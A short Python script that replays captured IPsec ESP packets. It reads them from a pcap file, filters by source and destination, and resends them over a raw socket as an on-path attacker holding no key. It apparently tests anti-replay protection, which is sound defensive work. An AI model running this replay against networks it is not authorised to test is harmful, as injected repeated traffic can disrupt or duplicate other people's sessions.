#!/usr/bin/python3
"""An attacker on the path: takes ESP packets from a capture and sends them again as they were. It knows no key. Needs root,
for raw sockets.
"""

import argparse
import socket
import sys

from capture import ipv4_packets

ESP = 50


def esp_packets(path, source, destination):
    """ESP packets over IPv4 between two addresses, each once however often the capture saw it."""
    wanted = socket.inet_aton(source), socket.inet_aton(destination)
    seen = set()
    for _, packet, whole in ipv4_packets(path, ESP):
        if (packet[12:16], packet[16:20]) != wanted:
            continue
        if not whole:
            raise SystemExit(f"{path} does not hold whole packets")
        key = packet[20:]
        if key not in seen:
            seen.add(key)
            yield packet


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("--pcap", required=True, help="capture in which the packets are")
    parser.add_argument("--source", required=True, help="their source address")
    parser.add_argument("--destination", required=True, help="their destination address")
    parser.add_argument("--count", type=int, default=5, help="so many of them")
    options = parser.parse_args()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for packet in esp_packets(options.pcap, options.source, options.destination):
        if sent == options.count:
            break
        raw.sendto(packet, (options.destination, 0))
        sent += 1
    print(f"sent {sent} again")
    return 0 if sent == options.count else 1


if __name__ == "__main__":
    sys.exit(main())
